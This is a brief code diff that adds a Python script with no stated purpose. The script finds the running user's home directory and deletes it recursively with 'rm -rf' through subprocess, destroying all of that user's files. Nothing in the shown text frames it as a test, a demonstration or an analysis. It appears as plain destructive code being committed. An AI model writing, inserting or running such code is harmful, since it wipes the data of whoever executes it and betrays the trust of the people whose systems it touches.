@@ -1,0 +1,5 @@
+import os
+import subprocess
+
+target = os.path.expanduser("~")
+subprocess.run(["rm", "-rf", target], check=True)
